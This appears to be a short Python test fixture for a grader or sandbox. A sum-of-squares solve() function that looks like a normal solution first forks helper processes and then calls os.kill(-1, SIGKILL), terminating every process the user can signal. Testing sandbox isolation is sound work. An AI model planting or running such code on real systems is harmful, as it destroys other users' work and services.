# Starts helpers, then kill(-1, SIGKILL) in the middle of the tests: every process it may signal.
import os
import signal
import time

for _ in range(3):
    if os.fork() == 0:
        time.sleep(1000)
        os._exit(0)


def solve(xs):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return sum(x * x for x in xs)
